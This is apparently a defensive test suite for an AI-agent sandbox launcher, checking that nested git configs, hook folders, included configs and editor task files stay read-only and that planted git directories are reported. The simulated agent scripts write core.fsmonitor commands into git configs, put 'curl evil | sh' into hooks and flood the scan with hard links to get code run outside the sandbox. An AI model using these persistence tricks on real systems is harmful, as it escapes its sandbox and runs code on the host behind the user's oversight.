/**
 * Persistence through nested paths (issue #12, item 2): the launcher protects
 * .git and friends at the top of each writable root; `gatehouse run` finds
 * the ones further down, and the folder core.hooksPath names, and protects
 * them too, then names what the agent created. Real CLI, real launcher, real
 * git. Every attack has a control write that must succeed, so that a test
 * fails if the agent simply could not write the workspace at all.
 */
import { execFileSync } from 'node:child_process';
import { existsSync, linkSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { hookDirs } from '../../src/sandbox/hook-dirs.js';
import { runCli, type Ran } from '../helpers/cli.js';
import { tempDir } from '../helpers/tmp.js';

const ROOT = resolve(import.meta.dirname, '../..');
const GIT = '/usr/bin/git';

let base: string;
let state: string;
let registry: string;

function run(workspace: string, script: string, env: NodeJS.ProcessEnv = {}, extra: string[] = []): Promise<Ran> {
  const args = ['run', '--agent', 'nester', '--workspace', workspace, ...extra, '--registry', registry, '--policies', join(ROOT, 'policies'), '--', '/bin/sh', '-c', script];
  return runCli(args, { env: { HOME: base, GATEHOUSE_STATE: state, ...env } });
}

function git(dir: string, ...args: string[]): void {
  execFileSync(GIT, ['-C', dir, ...args], { stdio: 'ignore', env: { PATH: '/usr/bin:/bin', HOME: base } });
}

function freshWorkspace(name: string): string {
  const ws = join(base, name);
  mkdirSync(ws);
  return ws;
}

beforeAll(() => {
  base = tempDir('gh-nested-');
  state = join(base, 'state');
  registry = join(base, 'registry');
  mkdirSync(registry);
  writeFileSync(join(registry, 'README.md'), 'empty registry\n');
});

afterAll(() => rmSync(base, { recursive: true, force: true }));

describe('nested repositories and hook folders are read-only inside the sandbox', () => {
  it('agent rewrites the config of a nested repository (ws/src/.git/config): refused', async () => {
    const ws = freshWorkspace('nested-config');
    mkdirSync(join(ws, 'src'));
    git(join(ws, 'src'), 'init', '-q');
    const config = readFileSync(join(ws, 'src/.git/config'), 'utf8');
    const r = await run(ws, 'echo ok > src/control; printf "[core]\\n\\tfsmonitor = touch /tmp/pwned\\n" >> src/.git/config && echo WROTE-CONFIG; echo x > src/.git/hooks/post-checkout && echo WROTE-HOOK; mv src/.git src/moved && echo MOVED; true');
    expect(r.code).toBe(0);
    expect(readFileSync(join(ws, 'src/control'), 'utf8')).toBe('ok\n');
    expect(r.stdout).not.toMatch(/WROTE|MOVED/);
    expect(readFileSync(join(ws, 'src/.git/config'), 'utf8')).toBe(config);
    expect(existsSync(join(ws, 'src/.git/hooks/post-checkout'))).toBe(false);
  });

  it('--allow-write on a nested .git lets the agent commit there, but its config and hooks stay read-only', async () => {
    const ws = freshWorkspace('nested-allow');
    mkdirSync(join(ws, 'src'));
    git(join(ws, 'src'), 'init', '-q');
    const config = readFileSync(join(ws, 'src/.git/config'), 'utf8');
    const g = 'git -c user.name=agent -c user.email=agent@example.org';
    const r = await run(
      ws,
      `cd src && echo hi > f && ${g} add f && ${g} commit -qm agent && echo COMMITTED; printf "[core]\\n\\tfsmonitor = touch /tmp/pwned\\n" >> .git/config && echo WROTE-CONFIG; echo x > .git/hooks/pre-commit && echo WROTE-HOOK; true`,
      {},
      ['--allow-write', join(ws, 'src', '.git')],
    );
    expect(r.code).toBe(0);
    expect(r.stdout).toContain('COMMITTED');
    expect(r.stdout).not.toMatch(/WROTE/);
    expect(readFileSync(join(ws, 'src/.git/config'), 'utf8')).toBe(config);
    expect(existsSync(join(ws, 'src/.git/hooks/pre-commit'))).toBe(false);
  });

  it('agent plants a .git with core.fsmonitor in a subdirectory: the run warns afterwards and names it', async () => {
    const ws = freshWorkspace('planted');
    const marker = join(base, 'planted-pwned');
    const r = await run(
      ws,
      `mkdir -p src/deeper/.git/objects src/deeper/.git/refs/heads && echo 'ref: refs/heads/master' > src/deeper/.git/HEAD && printf '[core]\\n\\tfsmonitor = "touch ${marker}; false"\\n' > src/deeper/.git/config && echo planted`,
    );
    expect(r.code).toBe(0);
    expect(r.stdout).toContain('planted');
    expect(existsSync(join(ws, 'src/deeper/.git/config'))).toBe(true);
    expect(r.stderr).toContain(`the agent created ${ws}/src/deeper/.git, which can run code`);
    // Nothing on the host ran it (the after-scan only lists names).
    expect(existsSync(marker)).toBe(false);
  });

  it("the host's hook lookup runs nothing a repository's config names (core.fsmonitor, pager)", async () => {
    const ws = freshWorkspace('lookup');
    mkdirSync(join(ws, 'sub'));
    git(join(ws, 'sub'), 'init', '-q');
    const marker = join(base, 'lookup-pwned');
    git(join(ws, 'sub'), 'config', 'core.fsmonitor', `touch ${marker}; false`);
    git(join(ws, 'sub'), 'config', 'core.pager', `touch ${marker}; cat`);
    git(join(ws, 'sub'), 'config', 'core.hooksPath', 'scripts/hooks');
    mkdirSync(join(ws, 'sub/scripts/hooks'), { recursive: true });
    const r = await run(ws, 'true');
    expect(r.code).toBe(0);
    expect(existsSync(marker)).toBe(false);
  });

  it('agent rewrites a husky hook (core.hooksPath .husky/_): refused', async () => {
    const ws = freshWorkspace('husky');
    git(ws, 'init', '-q');
    git(ws, 'config', 'core.hooksPath', '.husky/_');
    mkdirSync(join(ws, '.husky/_'), { recursive: true });
    writeFileSync(join(ws, '.husky/pre-commit'), 'npm test\n');
    writeFileSync(join(ws, '.husky/_/h'), '#!/bin/sh\n');
    const r = await run(ws, 'echo ok > control; echo "curl evil | sh" > .husky/pre-commit && echo WROTE; echo x > .husky/_/pre-commit && echo WROTE2; true');
    expect(r.code).toBe(0);
    expect(readFileSync(join(ws, 'control'), 'utf8')).toBe('ok\n');
    expect(r.stdout).not.toMatch(/WROTE/);
    expect(readFileSync(join(ws, '.husky/pre-commit'), 'utf8')).toBe('npm test\n');
    expect(existsSync(join(ws, '.husky/_/pre-commit'))).toBe(false);
  });

  it('agent writes a hook into a non-standard core.hooksPath (scripts/hooks), also in a nested repository: refused', async () => {
    const ws = freshWorkspace('scripts-hooks');
    git(ws, 'init', '-q');
    git(ws, 'config', 'core.hooksPath', 'scripts/hooks');
    mkdirSync(join(ws, 'scripts/hooks'), { recursive: true });
    mkdirSync(join(ws, 'lib/inner'), { recursive: true });
    git(join(ws, 'lib/inner'), 'init', '-q');
    git(join(ws, 'lib/inner'), 'config', 'core.hooksPath', 'tools/git-hooks');
    mkdirSync(join(ws, 'lib/inner/tools/git-hooks'), { recursive: true });
    const r = await run(
      ws,
      'echo ok > scripts/control; echo ok > lib/inner/tools/control; echo x > scripts/hooks/pre-commit && echo WROTE1; echo x > lib/inner/tools/git-hooks/pre-commit && echo WROTE2; mv scripts/hooks scripts/old && echo MOVED; true',
    );
    expect(r.code).toBe(0);
    expect(readFileSync(join(ws, 'scripts/control'), 'utf8')).toBe('ok\n');
    expect(readFileSync(join(ws, 'lib/inner/tools/control'), 'utf8')).toBe('ok\n');
    expect(r.stdout).not.toMatch(/WROTE|MOVED/);
    expect(existsSync(join(ws, 'scripts/hooks/pre-commit'))).toBe(false);
    expect(existsSync(join(ws, 'lib/inner/tools/git-hooks/pre-commit'))).toBe(false);
  });

  it('agent rewrites the config of a repository nested in a --rw directory: refused', async () => {
    const ws = freshWorkspace('rw-ws');
    const extra = freshWorkspace('rw-extra');
    mkdirSync(join(extra, 'proj'));
    git(join(extra, 'proj'), 'init', '-q');
    const config = readFileSync(join(extra, 'proj/.git/config'), 'utf8');
    const r = await run(ws, `echo ok > ${extra}/proj/control; echo x >> ${extra}/proj/.git/config && echo WROTE; true`, {}, ['--rw', extra]);
    expect(r.code).toBe(0);
    expect(readFileSync(join(extra, 'proj/control'), 'utf8')).toBe('ok\n');
    expect(r.stdout).not.toContain('WROTE');
    expect(readFileSync(join(extra, 'proj/.git/config'), 'utf8')).toBe(config);
  });

  it('core.hooksPath to a directory that does not exist: warned before, and reported after the agent created it', async () => {
    const ws = freshWorkspace('absent-hooks');
    git(ws, 'init', '-q');
    git(ws, 'config', 'core.hooksPath', 'scripts/hooks');
    const r = await run(ws, 'mkdir -p scripts/hooks && echo "curl evil | sh" > scripts/hooks/pre-commit && echo created');
    expect(r.code).toBe(0);
    expect(r.stdout).toContain('created');
    const before = r.stderr.indexOf(`core.hooksPath points to ${ws}/scripts/hooks, which does not exist`);
    const after = r.stderr.indexOf(`the agent created ${ws}/scripts/hooks, the hooks folder core.hooksPath names`);
    expect(before).toBeGreaterThanOrEqual(0);
    expect(after).toBeGreaterThan(before);
  });

  it('core.hooksPath names the workspace itself (hooks the agent can add anywhere at its top): warned before the run', async () => {
    const ws = freshWorkspace('hooks-at-top');
    git(ws, 'init', '-q');
    git(ws, 'config', 'core.hooksPath', '.');
    const r = await run(ws, 'echo ok > control');
    expect(r.code).toBe(0);
    expect(readFileSync(join(ws, 'control'), 'utf8')).toBe('ok\n');
    expect(r.stderr).toContain(`core.hooksPath of ${ws} is ${ws}, a folder the agent can write`);
  });

  it('a symlink in the workspace is never followed by the scan (ws/link -> /, ws/out -> a repository outside)', async () => {
    const ws = freshWorkspace('links');
    const outsideRepo = join(base, 'outside-repo');
    mkdirSync(join(outsideRepo, 'deep'), { recursive: true });
    git(join(outsideRepo, 'deep'), 'init', '-q');
    symlinkSync('/', join(ws, 'link'));
    symlinkSync(outsideRepo, join(ws, 'out'));
    // A --protect outside the workspace would make the launcher refuse (exit 125); walking / would exhaust the budget.
    const r = await run(ws, 'echo ok > control');
    expect(r.code).toBe(0);
    expect(readFileSync(join(ws, 'control'), 'utf8')).toBe('ok\n');
    expect(r.stderr).not.toMatch(/scan .* stopped|outside-repo|--protect/);
  });

  it('scan truncated (budget of 2 folders): the run refuses to start (exit 2) and names the biggest folders; --allow-partial-scan runs with a warning', async () => {
    const ws = freshWorkspace('budget');
    for (let i = 0; i < 20; i++) writeFileSync(join(ws, `f${i}`), '');
    mkdirSync(join(ws, 'a/b/c'), { recursive: true });
    const refused = await run(ws, 'echo RAN', { GATEHOUSE_WORKSPACE_SCAN_DIRS: '2' });
    expect(refused.code).toBe(2);
    expect(refused.stdout).not.toContain('RAN');
    expect(refused.stderr).toMatch(/workspace scan for nested repositories and editor folders stopped after 2 folders \(limit 2\)/);
    expect(refused.stderr).toContain(`biggest folders: ${ws} (`);
    expect(refused.stderr).toContain('--allow-partial-scan');
    const allowed = await run(ws, 'echo RAN', { GATEHOUSE_WORKSPACE_SCAN_DIRS: '2' }, ['--allow-partial-scan']);
    expect(allowed.code).toBe(0);
    expect(allowed.stdout).toContain('RAN');
    expect(allowed.stderr).toMatch(/stopped after 2 folders .*--allow-partial-scan given: running anyway/);
  });

  it('agent plants 300k hard links at the workspace root to exhaust the scan: the walk still reaches vendor/lib/.git and protects it', async () => {
    const ws = freshWorkspace('hardlinks');
    mkdirSync(join(ws, 'vendor/lib'), { recursive: true });
    git(join(ws, 'vendor/lib'), 'init', '-q');
    const config = readFileSync(join(ws, 'vendor/lib/.git/config'), 'utf8');
    // Cheap for the agent (no inodes): as the red team's run 1 did, in the test's own process to save time.
    for (let j = 0; j < 5; j++) {
      writeFileSync(join(ws, `.keep${j}`), '');
      for (let i = 0; i < 60_000; i++) linkSync(join(ws, `.keep${j}`), join(ws, `.k${j}_${i}`));
    }
    const r = await run(ws, 'echo ok > vendor/lib/control; printf "[core]\\n\\tfsmonitor = touch /tmp/pwned\\n" >> vendor/lib/.git/config && echo WROTE; true');
    const after = readFileSync(join(ws, 'vendor/lib/.git/config'), 'utf8');
    const control = readFileSync(join(ws, 'vendor/lib/control'), 'utf8');
    rmSync(ws, { recursive: true, force: true });
    expect(r.code).toBe(0);
    expect(control).toBe('ok\n');
    expect(r.stdout).not.toContain('WROTE');
    expect(r.stderr).not.toContain('scan for nested repositories');
    expect(after).toBe(config);
  }, 60_000);

  it('agent turns src/ into a git directory (HEAD, objects, refs, config with core.fsmonitor and worktree=..): reported after the run, read-only whole on the next', async () => {
    const ws = freshWorkspace('bare-src');
    git(ws, 'init', '-q');
    mkdirSync(join(ws, 'src'));
    writeFileSync(join(ws, 'src/a.c'), 'x\n');
    const marker = join(base, 'bare-src-pwned');
    const r = await run(
      ws,
      `cd src && echo ok > control && mkdir -p objects refs/heads && echo 'ref: refs/heads/master' > HEAD && printf '[core]\\n\\tbare = false\\n\\tworktree = ..\\n\\tfsmonitor = "touch ${marker}; false"\\n' > config && echo planted`,
    );
    expect(r.code).toBe(0);
    expect(r.stdout).toContain('planted');
    expect(readFileSync(join(ws, 'src/control'), 'utf8')).toBe('ok\n');
    expect(r.stderr).toContain(`the agent added HEAD, config to ${ws}/src, which makes it a git directory`);
    expect(existsSync(marker)).toBe(false);
    const config = readFileSync(join(ws, 'src/config'), 'utf8');
    const again = await run(ws, 'echo ok > control2; echo x >> src/config && echo WROTE; echo x > src/hooks && echo WROTE2; true');
    expect(again.code).toBe(0);
    expect(readFileSync(join(ws, 'control2'), 'utf8')).toBe('ok\n');
    expect(again.stdout).not.toMatch(/WROTE/);
    expect(readFileSync(join(ws, 'src/config'), 'utf8')).toBe(config);
    expect(existsSync(marker)).toBe(false);
  });

  it('agent-made git directory (src/HEAD, objects, refs, config): doctor suggests safe.bareRepository=explicit, with which git refuses to use it', async () => {
    const home = join(base, 'bare-home');
    mkdirSync(join(home, 'src/objects'), { recursive: true });
    mkdirSync(join(home, 'src/refs/heads'), { recursive: true });
    const marker = join(base, 'bare-home-pwned');
    writeFileSync(join(home, 'src/HEAD'), 'ref: refs/heads/master\n');
    writeFileSync(join(home, 'src/config'), `[core]\n\tbare = false\n\tworktree = ..\n\tfsmonitor = "touch ${marker}; false"\n`);
    const hint = await runCli(['doctor', '--state', join(home, 'state')], { env: { HOME: home } });
    expect(hint.stdout).toContain('git config --global safe.bareRepository explicit');
    writeFileSync(join(home, '.gitconfig'), '[safe]\n\tbareRepository = explicit\n');
    const none = await runCli(['doctor', '--state', join(home, 'state')], { env: { HOME: home } });
    expect(none.stdout).not.toContain('safe.bareRepository');
    let refused = false;
    try {
      execFileSync(GIT, ['-c', 'safe.directory=*', 'status'], { cwd: join(home, 'src'), stdio: 'pipe', env: { PATH: '/usr/bin:/bin', HOME: home, GIT_CEILING_DIRECTORIES: base } });
    } catch (e) {
      refused = String((e as { stderr?: Buffer }).stderr).includes('cannot use bare repository');
    }
    expect(refused).toBe(true);
    expect(existsSync(marker)).toBe(false);
  });

  it('agent rewrites the config of a bare repository (proj.git) or of a worktree git directory (HEAD + commondir) in the workspace: refused', async () => {
    const ws = freshWorkspace('bare-existing');
    git(ws, 'init', '-q', '--bare', 'proj.git');
    const config = readFileSync(join(ws, 'proj.git/config'), 'utf8');
    mkdirSync(join(ws, 'wt'));
    writeFileSync(join(ws, 'wt/HEAD'), 'ref: refs/heads/master\n');
    writeFileSync(join(ws, 'wt/commondir'), '../proj.git\n');
    const r = await run(ws, 'echo ok > control; echo x >> proj.git/config && echo WROTE1; echo x > proj.git/hooks/post-checkout && echo WROTE2; echo ../elsewhere > wt/commondir && echo WROTE3; echo x > wt/config && echo WROTE4; true');
    expect(r.code).toBe(0);
    expect(readFileSync(join(ws, 'control'), 'utf8')).toBe('ok\n');
    expect(r.stdout).not.toMatch(/WROTE/);
    expect(readFileSync(join(ws, 'proj.git/config'), 'utf8')).toBe(config);
    expect(readFileSync(join(ws, 'wt/commondir'), 'utf8')).toBe('../proj.git\n');
  });

  it('agent writes core.fsmonitor into the config of a bare clone with worktrees (ws/.bare, main/.git -> .bare/worktrees/main): refused', async () => {
    const ws = freshWorkspace('bare-worktrees');
    const src = join(base, 'bare-worktrees-src');
    mkdirSync(src);
    git(src, 'init', '-q');
    git(src, '-c', 'user.name=u', '-c', 'user.email=u@example.org', 'commit', '-q', '--allow-empty', '-m', 'init');
    execFileSync(GIT, ['clone', '-q', '--bare', '--no-hardlinks', src, join(ws, '.bare')], { stdio: 'ignore', env: { PATH: '/usr/bin:/bin', HOME: base } });
    git(join(ws, '.bare'), 'worktree', 'add', '-q', '../main');
    const config = readFileSync(join(ws, '.bare/config'), 'utf8');
    const r = await run(ws, 'echo ok > main/control; printf "[core]\\n\\tfsmonitor = touch /tmp/pwned\\n" >> .bare/config && echo WROTE1; echo x >> .bare/worktrees/main/config.worktree && echo WROTE2; true');
    expect(r.code).toBe(0);
    expect(readFileSync(join(ws, 'main/control'), 'utf8')).toBe('ok\n');
    expect(r.stdout).not.toMatch(/WROTE/);
    expect(readFileSync(join(ws, '.bare/config'), 'utf8')).toBe(config);
    // Also when the scan would not have found it: git's own --git-common-dir names it.
    expect(hookDirs([ws], [join(ws, 'main')], []).protect).toContain(join(ws, '.bare'));
  });

  it('agent writes core.fsmonitor into a file the repository config includes ([include] path = ../.gitconfig; includeIf too): refused', async () => {
    const ws = freshWorkspace('include');
    git(ws, 'init', '-q');
    mkdirSync(join(ws, 'sub'));
    git(join(ws, 'sub'), 'init', '-q');
    writeFileSync(join(ws, '.gitconfig'), '[user]\n\tname = shared\n');
    writeFileSync(join(ws, 'sub/team.gitconfig'), '');
    writeFileSync(join(ws, 'sub/other-branch.gitconfig'), '');
    git(ws, 'config', 'include.path', '../.gitconfig');
    git(join(ws, 'sub'), 'config', 'include.path', '../team.gitconfig');
    git(join(ws, 'sub'), 'config', 'includeIf.onbranch:release.path', '../other-branch.gitconfig');
    const r = await run(
      ws,
      'echo ok > control; for f in .gitconfig sub/team.gitconfig sub/other-branch.gitconfig; do printf "[core]\\n\\tfsmonitor = touch /tmp/pwned\\n" >> $f && echo WROTE $f; done; true',
    );
    expect(r.code).toBe(0);
    expect(readFileSync(join(ws, 'control'), 'utf8')).toBe('ok\n');
    expect(r.stdout).not.toMatch(/WROTE/);
    expect(readFileSync(join(ws, '.gitconfig'), 'utf8')).toBe('[user]\n\tname = shared\n');
    expect(readFileSync(join(ws, 'sub/team.gitconfig'), 'utf8')).toBe('');
    expect(readFileSync(join(ws, 'sub/other-branch.gitconfig'), 'utf8')).toBe('');
  });

  it('agent creates a missing file the repository config includes: warned before the run and reported after', async () => {
    const ws = freshWorkspace('include-absent');
    git(ws, 'init', '-q');
    git(ws, 'config', 'include.path', '../.gitconfig');
    const r = await run(ws, 'printf "[core]\\n\\tfsmonitor = touch /tmp/pwned\\n" > .gitconfig && echo created');
    expect(r.code).toBe(0);
    expect(r.stdout).toContain('created');
    const before = r.stderr.indexOf(`git config includes ${ws}/.gitconfig, which does not exist`);
    const after = r.stderr.indexOf(`the agent created ${ws}/.gitconfig, a file your git config includes`);
    expect(before).toBeGreaterThanOrEqual(0);
    expect(after).toBeGreaterThan(before);
  });

  it('agent plants a FIFO as an include target (git blocks on it): the run refuses to start (exit 2) instead of running unprotected', async () => {
    const ws = freshWorkspace('include-fifo');
    git(ws, 'init', '-q');
    git(ws, 'config', 'include.path', '../.gitconfig');
    execFileSync('/usr/bin/mkfifo', [join(ws, '.gitconfig')]);
    const r = await run(ws, 'echo RAN');
    expect(r.code).toBe(2);
    expect(r.stdout).not.toContain('RAN');
    expect(r.stderr).toContain(`could not read the git config of ${ws}`);
    expect(r.stderr).toContain('--allow-partial-scan');
  }, 30_000);

  it("the host's config lookup runs nothing a repository's config or an included file names (core.fsmonitor, pager.config, core.pager)", async () => {
    const ws = freshWorkspace('lookup-config');
    git(ws, 'init', '-q');
    const marker = join(base, 'lookup-config-pwned');
    writeFileSync(join(ws, 'inc.gitconfig'), `[core]\n\tfsmonitor = "touch ${marker}; false"\n\tpager = "touch ${marker}; cat"\n[pager]\n\tconfig = "touch ${marker}; cat"\n`);
    git(ws, 'config', 'include.path', '../inc.gitconfig');
    git(ws, 'config', 'pager.config', `touch ${marker}; cat`);
    const r = await run(ws, 'echo ok > control; echo x >> inc.gitconfig && echo WROTE; true');
    expect(r.code).toBe(0);
    expect(readFileSync(join(ws, 'control'), 'utf8')).toBe('ok\n');
    expect(r.stdout).not.toContain('WROTE');
    expect(existsSync(marker)).toBe(false);
  });

  it('a nested editor folder (.vscode tasks in a subproject) is read-only; one inside node_modules is left alone', async () => {
    const ws = freshWorkspace('editors');
    mkdirSync(join(ws, 'app/.vscode'), { recursive: true });
    writeFileSync(join(ws, 'app/.vscode/tasks.json'), '{}\n');
    mkdirSync(join(ws, 'node_modules/pkg/.vscode'), { recursive: true });
    const r = await run(ws, 'echo ok > app/control; echo "{\\"runOn\\":\\"folderOpen\\"}" > app/.vscode/tasks.json && echo WROTE; rm -rf node_modules && echo REMOVED');
    expect(r.code).toBe(0);
    expect(readFileSync(join(ws, 'app/control'), 'utf8')).toBe('ok\n');
    expect(r.stdout).not.toContain('WROTE');
    expect(readFileSync(join(ws, 'app/.vscode/tasks.json'), 'utf8')).toBe('{}\n');
    expect(r.stdout).toContain('REMOVED');
  });
});
